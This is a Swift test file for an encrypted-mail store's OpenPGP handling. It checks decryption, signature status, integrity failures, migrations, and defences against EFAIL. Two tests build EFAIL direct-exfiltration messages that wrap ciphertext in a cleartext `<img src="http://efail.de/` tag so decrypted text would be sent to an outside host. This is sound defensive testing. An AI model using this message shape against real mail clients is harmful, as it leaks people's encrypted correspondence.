import CofferBlocking
import CofferCrypto
import CofferKeymaker
import CofferMIME
import CofferOpenPGP
import CofferTesting
import Foundation
import GRDB
import Testing

@testable import CofferStore

/// PGP/MIME (RFC 3156) messages decrypted when they are stored (migration `v8-openpgp-mail`), and EFAIL closed by
/// construction: only a message that is encrypted as a whole is decrypted, and a failed integrity check leaves no
/// plaintext anywhere.
@Suite("OpenPGP mail in the store")
struct OpenPGPMailTests {
    static let canary = "Zanzibarcanary42"
    static let entity =
        "Content-Type: multipart/mixed; boundary=\"inner\"\r\n\r\n--inner\r\n"
        + "Content-Type: text/plain; charset=utf-8\r\n\r\nThe secret word is \(canary).\r\n--inner\r\n"
        + "Content-Type: application/pdf; name=plan.pdf\r\nContent-Disposition: attachment; filename=plan.pdf\r\n"
        + "Content-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQK\r\n--inner--\r\n"

    /// A store holding Alice's generated key, and the key.
    static func aliceStore() async throws -> (StoreWorld, OpenPGPSecretKey) {
        let world = try await StoreWorld()
        let alice = try await BlockingPool.run { () throws(OpenPGPError) in
            try OpenPGP.generateKey(userID: "Alice <alice@example.org>")
        }
        _ = try await world.store.addOpenPGPKey(
            fingerprint: alice.fingerprint,
            userIDs: alice.publicKey.userIDs,
            certificate: alice.publicKey.bytes,
            secretKey: alice.bytes
        )
        return (world, alice)
    }

    /// `ciphertext` as the encrypted part of a PGP/MIME message (base64, so binary ciphertext fits too).
    static func pgpMIME(_ ciphertext: [UInt8], id: String = "enc-1@example.org", named: Bool = true) -> String {
        "From: Bob <bob@example.org>\r\nTo: Alice <alice@example.org>\r\nSubject: Sealed note\r\n"
            + "Date: Mon, 1 Jan 2024 10:00:00 +0000\r\nMessage-ID: <\(id)>\r\nMIME-Version: 1.0\r\n"
            + "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"enc\"\r\n\r\n"
            + encryptedParts(ciphertext, boundary: "enc", named: named)
    }

    /// The two parts of RFC 3156, section 4, and the closing delimiter.
    static func encryptedParts(_ ciphertext: [UInt8], boundary: String, named: Bool = true) -> String {
        "--\(boundary)\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--\(boundary)\r\n"
            + (named
                ? "Content-Type: application/octet-stream; name=\"encrypted.asc\"\r\n"
                    + "Content-Disposition: inline; filename=\"encrypted.asc\"\r\n"
                : "Content-Type: application/octet-stream\r\n")
            + "Content-Transfer-Encoding: base64\r\n\r\n"
            + Data(ciphertext).base64EncodedString(options: .lineLength76Characters).replacingOccurrences(
                of: "\n",
                with: "\r\n"
            ) + "\r\n--\(boundary)--\r\n"
    }

    static func encrypt(
        to recipient: OpenPGPPublicKey,
        signedBy signer: OpenPGPSecretKey? = nil,
        _ text: String = entity
    ) async throws -> [UInt8] {
        try await BlockingPool.run { () throws(OpenPGPError) in
            try OpenPGP.encrypt(Array(text.utf8), to: [recipient], signedBy: signer)
        }
    }

    static func importOne(_ text: String, into store: MailStore) async throws -> Int64 {
        guard case .imported(let id) = try await store.importMessage(RawMessage(bytes: Array(text.utf8))) else {
            throw StoreError.invalidArgument("not imported")
        }
        return id
    }

    /// Every place the decrypted canary could be: the stored text and HTML, the search index, every file.
    static func expectNoPlaintext(_ world: StoreWorld, id: Int64) async throws {
        let detail = try await world.store.message(id)
        #expect(detail.textBody?.contains(canary) != true)
        #expect(detail.htmlBody?.contains(canary) != true)
        #expect(try await world.store.search(canary).isEmpty)
        #expect(CanaryScanner.occurrences(of: [Array(canary.utf8)], under: [world.root.path]).isEmpty)
    }

    @Test("a signed PGP/MIME message to the user's key is stored decrypted, verified, searchable and sealed")
    func decryptsAndVerifies() async throws {
        let (world, alice) = try await Self.aliceStore()
        let ciphertext = try await Self.encrypt(to: alice.publicKey, signedBy: alice)
        let id = try await Self.importOne(Self.pgpMIME(ciphertext), into: world.store)
        let detail = try await world.store.message(id)
        #expect(detail.textBody?.contains("The secret word is \(Self.canary).") == true)
        #expect(detail.summary.subject == "Sealed note")
        #expect(detail.attachments.map(\.filename) == ["plan.pdf"])
        let status = try #require(detail.openPGP)
        #expect(status.outcome == .decrypted && status.protection == "MDC")
        #expect(
            status.signatures == [
                MessageOpenPGP.Signature(
                    status: "valid",
                    fingerprint: alice.fingerprint,
                    userID: "Alice <alice@example.org>"
                )
            ]
        )
        #expect(try await world.store.search(Self.canary.lowercased()).map(\.id) == [id])
        // Sealed like everything else: the decrypted text is in no file under the store.
        #expect(CanaryScanner.occurrences(of: [Array(Self.canary.utf8)], under: [world.root.path]).isEmpty)
        // The same message fetched again is a duplicate (its content hash is the encrypted message's).
        #expect(
            try await world.store.importMessage(RawMessage(bytes: Array(Self.pgpMIME(ciphertext).utf8))) == .duplicate
        )
    }

    @Test("an unsigned message is decrypted with no signature; a plain message gets no OpenPGP status")
    func unsignedAndPlain() async throws {
        let (world, alice) = try await Self.aliceStore()
        let id = try await Self.importOne(
            Self.pgpMIME(try await Self.encrypt(to: alice.publicKey)),
            into: world.store
        )
        let status = try #require(try await world.store.message(id).openPGP)
        #expect(status.outcome == .decrypted && status.signatures.isEmpty)
        let plain = try await Self.importOne(
            String(decoding: rawMessage(id: "plain@example.org", subject: "Hi", body: "hello").bytes, as: UTF8.self),
            into: world.store
        )
        #expect(try await world.store.message(plain).openPGP == nil)
    }

    @Test("a PGP/MIME message fetched by sync is stored decrypted too, and fetched again is only located")
    func syncedMessageIsDecrypted() async throws {
        let (world, alice) = try await Self.aliceStore()
        let account = try await world.store.addServerAccount(
            ServerAccount(host: "h.test", port: 993, username: "u", password: "p")
        )
        let inbox = try await world.store.addSyncFolder(accountID: account, name: "INBOX", uidValidity: 1)
        let bytes = Array(Self.pgpMIME(try await Self.encrypt(to: alice.publicKey, signedBy: alice)).utf8)
        let outcomes = try await world.store.storeFetchedMail(
            [FetchedMail(uid: 7, bytes: bytes, flags: [], label: "INBOX")],
            folderID: inbox.id
        )
        guard case .stored(let id) = try #require(outcomes.first) else {
            Issue.record("not stored: \(outcomes)")
            return
        }
        let detail = try await world.store.message(id)
        #expect(detail.openPGP?.outcome == .decrypted && detail.openPGP?.signatures.first?.isValid == true)
        #expect(detail.textBody?.contains(Self.canary) == true)
        #expect(try await world.store.search(Self.canary).map(\.id) == [id])
        let archive = try await world.store.addSyncFolder(accountID: account, name: "Archive", uidValidity: 1)
        let again = try await world.store.storeFetchedMail(
            [FetchedMail(uid: 9, bytes: bytes, flags: [], label: "Archive")],
            folderID: archive.id
        )
        #expect(again == [.located(id)])
        #expect(CanaryScanner.occurrences(of: [Array(Self.canary.utf8)], under: [world.root.path]).isEmpty)
    }

    @Test("a signature by a key the store does not know is reported as such, the message still decrypted")
    func unknownSigner() async throws {
        let (world, alice) = try await Self.aliceStore()
        let mallory = try await BlockingPool.run { () throws(OpenPGPError) in
            try OpenPGP.generateKey(userID: "Mallory <mallory@example.net>")
        }
        let id = try await Self.importOne(
            Self.pgpMIME(try await Self.encrypt(to: alice.publicKey, signedBy: mallory)),
            into: world.store
        )
        let detail = try await world.store.message(id)
        let status = try #require(detail.openPGP)
        #expect(status.outcome == .decrypted)
        #expect(status.signatures.map(\.status) == ["unknown key"])
        #expect(status.signatures.first?.userID == nil)
        #expect(detail.textBody?.contains(Self.canary) == true)
    }

    @Test("with no key of the user's that fits, the message is stored as it came, with the reason")
    func noSecretKey() async throws {
        let (world, _) = try await Self.aliceStore()
        let carol = try await BlockingPool.run { () throws(OpenPGPError) in
            try OpenPGP.generateKey(userID: "Carol <carol@example.org>")
        }
        let id = try await Self.importOne(
            Self.pgpMIME(try await Self.encrypt(to: carol.publicKey)),
            into: world.store
        )
        #expect(try await world.store.message(id).openPGP == MessageOpenPGP(outcome: .noSecretKey))
        try await Self.expectNoPlaintext(world, id: id)

        // A store with no key at all stores it the same way.
        let empty = try await StoreWorld()
        let other = try await Self.importOne(
            Self.pgpMIME(try await Self.encrypt(to: carol.publicKey), id: "enc-2@example.org"),
            into: empty.store
        )
        #expect(try await empty.store.message(other).openPGP?.outcome == .noSecretKey)
    }

    @Test("an encrypted part that is not decrypted stays as an opaque attachment, even unnamed, with its ciphertext")
    func undecryptedCiphertextIsKept() async throws {
        let world = try await StoreWorld()
        let carol = try await BlockingPool.run { () throws(OpenPGPError) in
            try OpenPGP.generateKey(userID: "Carol <carol@example.org>")
        }
        let ciphertext = try await Self.encrypt(to: carol.publicKey)
        let id = try await Self.importOne(Self.pgpMIME(ciphertext, named: false), into: world.store)
        let detail = try await world.store.message(id)
        #expect(detail.openPGP?.outcome == .noSecretKey)
        #expect(detail.attachments.map(\.filename) == ["encrypted.asc"])
        #expect(detail.summary.flags.contains(.hasAttachments))
        let attachment = try #require(detail.attachments.first)
        #expect(try await world.store.attachmentContent(attachment.id).content == ciphertext)

        // Beside cleartext parts (EFAIL's shape), unnamed too.
        let nested =
            "From: Eve <eve@example.net>\r\nTo: Alice <alice@example.org>\r\nSubject: Look\r\n"
            + "Message-ID: <nested-unnamed@example.net>\r\nMIME-Version: 1.0\r\n"
            + "Content-Type: multipart/mixed; boundary=\"M\"\r\n\r\n--M\r\nContent-Type: text/plain\r\n\r\nhi\r\n"
            + "--M\r\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"enc\"\r\n\r\n"
            + Self.encryptedParts(ciphertext, boundary: "enc", named: false) + "--M--\r\n"
        let second = try await Self.importOne(nested, into: world.store)
        let kept = try await world.store.message(second)
        #expect(kept.openPGP?.outcome == .nestedNotDecrypted)
        #expect(kept.attachments.map(\.filename) == ["encrypted.asc"])
        #expect(try await world.store.attachmentContent(try #require(kept.attachments.first).id).content == ciphertext)
    }

    @Test("a message stored encrypted before its key was added is decrypted in place once the key is there")
    func storedEncryptedMailIsOpenedLater() async throws {
        let world = try await StoreWorld()
        let carol = try await BlockingPool.run { () throws(OpenPGPError) in
            try OpenPGP.generateKey(userID: "Carol <carol@example.org>")
        }
        let id = try await Self.importOne(
            Self.pgpMIME(try await Self.encrypt(to: carol.publicKey, signedBy: carol), named: false),
            into: world.store
        )
        try await world.store.setFlags(id, adding: .flagged)
        let inlineArmored = try await BlockingPool.run { () throws(OpenPGPError) in
            try OpenPGP.encrypt(Array("Inline later \(Self.canary)".utf8), to: [carol.publicKey], armored: true)
        }
        let inline = try await Self.importOne(
            "From: Bob <bob@example.org>\r\nSubject: Later\r\nMessage-ID: <later@example.org>\r\n"
                + "Content-Type: text/plain\r\n\r\n" + String(decoding: inlineArmored, as: UTF8.self),
            into: world.store
        )
        #expect(try await world.store.openStoredEncryptedMail() == 0)
        #expect(try await world.store.search(Self.canary).isEmpty)
        // A third one is damaged (its headers cell moved from another row): it is skipped, the others are opened.
        let damaged = try await Self.importOne(
            Self.pgpMIME(try await Self.encrypt(to: carol.publicKey), id: "damaged@example.org"),
            into: world.store
        )
        try await world.rawQueue().write { db in
            try db.execute(
                sql: "UPDATE messages SET headers = (SELECT headers FROM messages WHERE id = ?) WHERE id = ?",
                arguments: [id, damaged]
            )
        }

        _ = try await world.store.addOpenPGPKey(
            fingerprint: carol.fingerprint,
            userIDs: carol.publicKey.userIDs,
            certificate: carol.publicKey.bytes,
            secretKey: carol.bytes
        )
        #expect(try await world.store.openStoredEncryptedMail() == 2)
        let detail = try await world.store.message(id)
        #expect(detail.openPGP?.outcome == .decrypted && detail.openPGP?.signatures.first?.isValid == true)
        #expect(detail.textBody?.contains("The secret word is \(Self.canary).") == true)
        #expect(detail.attachments.map(\.filename) == ["plan.pdf"])
        #expect(detail.summary.flags.contains(.flagged) && detail.summary.flags.contains(.hasAttachments))
        #expect(detail.summary.subject == "Sealed note")
        #expect(try await world.store.message(inline).textBody == "Inline later \(Self.canary)")
        #expect(Set(try await world.store.search(Self.canary).map(\.id)) == [id, inline])
        #expect(try await world.store.openStoredEncryptedMail() == 0)
        #expect(CanaryScanner.occurrences(of: [Array(Self.canary.utf8)], under: [world.root.path]).isEmpty)
    }

    @Test("while locked, a job on FastSync's granted key stores encrypted mail as it came; the unlock decrypts it")
    func aGrantedKeyNeverOpensASecretKey() async throws {
        let root = TemporaryDirectory(prefix: "coffer-store-test")
        let keymaker = try await Fixtures.unlockedKeymaker()
        let accountKeys = AccountKeys(keymaker: keymaker)
        let store = try MailStore(folder: "\(root.path)/store", keys: accountKeys)
        let alice = try await BlockingPool.run { () throws(OpenPGPError) in
            try OpenPGP.generateKey(userID: "Alice <alice@example.org>")
        }
        _ = try await store.addOpenPGPKey(
            fingerprint: alice.fingerprint,
            userIDs: alice.publicKey.userIDs,
            certificate: alice.publicKey.bytes,
            secretKey: alice.bytes
        )
        let mainKey = try await keymaker.mainKey(for: .userRequest).withUnsafeBytes { Array($0) }
        await keymaker.lock()
        let ciphertext = try await Self.encrypt(to: alice.publicKey, signedBy: alice)
        let id = try await accountKeys.withBackgroundKey(SecretBytes(copying: mainKey)) { () async throws -> Int64 in
            await #expect(throws: StoreError.locked) {
                _ = try await store.openPGPSecretKey(fingerprint: alice.fingerprint)
            }
            return try await Self.importOne(Self.pgpMIME(ciphertext), into: store)
        }
        #expect(CanaryScanner.occurrences(of: [Array(Self.canary.utf8)], under: [root.path]).isEmpty)

        try await keymaker.unlock(.none)
        #expect(try await store.message(id).openPGP?.outcome == .noSecretKey)
        #expect(try await store.search(Self.canary).isEmpty)
        // What the agent's unlock does (SessionHandler.unlock): the message is decrypted in place.
        #expect(try await store.openStoredEncryptedMail() == 1)
        let detail = try await store.message(id)
        #expect(detail.openPGP?.outcome == .decrypted && detail.openPGP?.signatures.first?.isValid == true)
        #expect(detail.textBody?.contains("The secret word is \(Self.canary).") == true)
    }

    @Test("the unlock's look for mail stored encrypted reads the partial index of OpenPGP messages, not the table")
    func pendingMailIsFoundThroughTheIndex() async throws {
        let world = try await StoreWorld()
        let details = try await world.rawQueue().read { db in
            try Row.fetchAll(db, sql: "EXPLAIN QUERY PLAN " + MailStore.openPGPStatusesQuery).map { row -> String in
                row["detail"]
            }
        }
        #expect(details.contains { $0.contains("USING INDEX messages_openPGP") }, "\(details)")
    }

    @Test("a changed byte of the ciphertext fails its integrity check: no plaintext in the store, search or files")
    func tamperedCiphertext() async throws {
        let (world, alice) = try await Self.aliceStore()
        let ciphertext = try await Self.encrypt(to: alice.publicKey, signedBy: alice)
        // The last bytes are the MDC packet's SHA-1; the middle is the encrypted literal data.
        for (index, position) in [ciphertext.count - 5, ciphertext.count / 2 + 40].enumerated() {
            var tampered = ciphertext
            tampered[position] ^= 0x01
            let id = try await Self.importOne(
                Self.pgpMIME(tampered, id: "tampered-\(index)@example.org"),
                into: world.store
            )
            let status = try #require(try await world.store.message(id).openPGP)
            #expect(status.outcome == .integrityFailure || status.outcome == .malformed, "\(status)")
            #expect(status.outcome != .decrypted)
            try await Self.expectNoPlaintext(world, id: id)
        }
    }

    @Test("EFAIL direct exfiltration: an encrypted part between cleartext HTML parts is never decrypted")
    func efailDirectExfiltration() async throws {
        let (world, alice) = try await Self.aliceStore()
        let ciphertext = try await Self.encrypt(to: alice.publicKey, signedBy: alice)
        let message =
            "From: Eve <eve@example.net>\r\nTo: Alice <alice@example.org>\r\nSubject: Look\r\n"
            + "Date: Mon, 1 Jan 2024 10:00:00 +0000\r\nMessage-ID: <efail@example.net>\r\nMIME-Version: 1.0\r\n"
            + "Content-Type: multipart/mixed; boundary=\"BOUNDARY\"\r\n\r\n"
            + "--BOUNDARY\r\nContent-Type: text/html\r\n\r\n<img src=\"http://efail.de/\r\n"
            + "--BOUNDARY\r\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; "
            + "boundary=\"enc\"\r\n\r\n" + Self.encryptedParts(ciphertext, boundary: "enc")
            + "--BOUNDARY\r\nContent-Type: text/html\r\n\r\n\">\r\n--BOUNDARY--\r\n"
        let id = try await Self.importOne(message, into: world.store)
        let detail = try await world.store.message(id)
        #expect(detail.openPGP == MessageOpenPGP(outcome: .nestedNotDecrypted))
        #expect(detail.htmlBody?.contains("efail.de") == true)
        try await Self.expectNoPlaintext(world, id: id)

        // The same with the encrypted part bare (an application/pgp-encrypted leaf) and a text part before it.
        let bare =
            "From: Eve <eve@example.net>\r\nTo: Alice <alice@example.org>\r\nSubject: Look again\r\n"
            + "Message-ID: <efail-2@example.net>\r\nMIME-Version: 1.0\r\n"
            + "Content-Type: multipart/mixed; boundary=\"B\"\r\n\r\n--B\r\nContent-Type: text/plain\r\n\r\nhello\r\n"
            + Self.encryptedParts(ciphertext, boundary: "B")
        let second = try await Self.importOne(bare, into: world.store)
        #expect(try await world.store.message(second).openPGP?.outcome == .nestedNotDecrypted)
        try await Self.expectNoPlaintext(world, id: second)
    }

    @Test("inline PGP: a text body that is one armored message is decrypted; text around the block keeps it shut")
    func inlinePGP() async throws {
        let (world, alice) = try await Self.aliceStore()
        let armored = try await BlockingPool.run { () throws(OpenPGPError) in
            try OpenPGP.encrypt(
                Array("Inline \(Self.canary) text".utf8),
                to: [alice.publicKey],
                signedBy: alice,
                armored: true
            )
        }
        func message(_ body: String, id: String) -> String {
            "From: Bob <bob@example.org>\r\nTo: Alice <alice@example.org>\r\nSubject: Inline\r\n"
                + "Message-ID: <\(id)>\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n\(body)"
        }
        let text = String(decoding: armored, as: UTF8.self).replacingOccurrences(of: "\r\n", with: "\n")
            .replacingOccurrences(of: "\n", with: "\r\n")
        let id = try await Self.importOne(message("\r\n" + text + "\r\n", id: "inline@example.org"), into: world.store)
        let detail = try await world.store.message(id)
        #expect(detail.textBody == "Inline \(Self.canary) text")
        #expect(detail.openPGP?.outcome == .decrypted && detail.openPGP?.signatures.first?.isValid == true)
        #expect(try await world.store.search(Self.canary).map(\.id) == [id])

        // Cleartext before the block: not decrypted, no status, no plaintext.
        let wrapped = try await Self.importOne(
            message("<img src=\"http://efail.de/\r\n" + text + "\r\n\">\r\n", id: "inline-efail@example.org"),
            into: world.store
        )
        let shut = try await world.store.message(wrapped)
        #expect(shut.openPGP == nil)
        #expect(shut.textBody?.contains(Self.canary) == false)
        #expect(shut.textBody?.contains("-----BEGIN PGP MESSAGE-----") == true)
    }

    @Test("a store written before v8-openpgp-mail is migrated: its rows read with no status, new rows get one")
    func olderStoreIsMigrated() async throws {
        let (world, alice) = try await Self.aliceStore()
        let old = try await Self.importOne(
            String(decoding: rawMessage(id: "old@example.org", subject: "Old", body: "old text").bytes, as: UTF8.self),
            into: world.store
        )
        try world.store.close()
        try await world.rawQueue().writeWithoutTransaction { db in
            // As before v8 (and v11, whose index is on the column): both run again at the next open.
            try db.execute(sql: "DROP INDEX messages_openPGP")
            try db.execute(sql: "DELETE FROM grdb_migrations WHERE identifier = 'v11-openpgp-pending'")
            try db.execute(sql: "ALTER TABLE messages DROP COLUMN openPGP")
            try db.execute(sql: "DELETE FROM grdb_migrations WHERE identifier = 'v8-openpgp-mail'")
        }
        let reopened = try MailStore(folder: "\(world.root.path)/store", keys: world.keymaker)
        #expect(try await reopened.message(old).openPGP == nil)
        #expect(try await reopened.message(old).textBody?.contains("old text") == true)
        let id = try await Self.importOne(
            Self.pgpMIME(try await Self.encrypt(to: alice.publicKey)),
            into: reopened
        )
        #expect(try await reopened.message(id).openPGP?.outcome == .decrypted)
        try reopened.close()
    }

    @Test("a status cell moved to another message does not open: the message is reported damaged")
    func movedStatusCellIsDamage() async throws {
        let (world, alice) = try await Self.aliceStore()
        let first = try await Self.importOne(
            Self.pgpMIME(try await Self.encrypt(to: alice.publicKey)),
            into: world.store
        )
        let second = try await Self.importOne(
            Self.pgpMIME(try await Self.encrypt(to: alice.publicKey), id: "enc-2@example.org"),
            into: world.store
        )
        try await world.rawQueue().write { db in
            try db.execute(
                sql: "UPDATE messages SET openPGP = (SELECT openPGP FROM messages WHERE id = ?) WHERE id = ?",
                arguments: [first, second]
            )
        }
        await #expect(throws: StoreError.corruptMessage(second)) { try await world.store.message(second) }
        #expect(try await world.store.message(first).openPGP?.outcome == .decrypted)
    }

    @Test("headers inside the encrypted entity do not replace the message's own")
    func innerHeadersDoNotReplaceOuter() async throws {
        let (world, alice) = try await Self.aliceStore()
        let inner = "From: Mallory <boss@example.org>\r\nSubject: Forged\r\n" + Self.entity
        let id = try await Self.importOne(
            Self.pgpMIME(try await Self.encrypt(to: alice.publicKey, inner)),
            into: world.store
        )
        let detail = try await world.store.message(id)
        #expect(detail.summary.from.map(\.address) == ["bob@example.org"])
        #expect(detail.summary.subject == "Sealed note")
        #expect(detail.textBody?.contains(Self.canary) == true)
    }
}
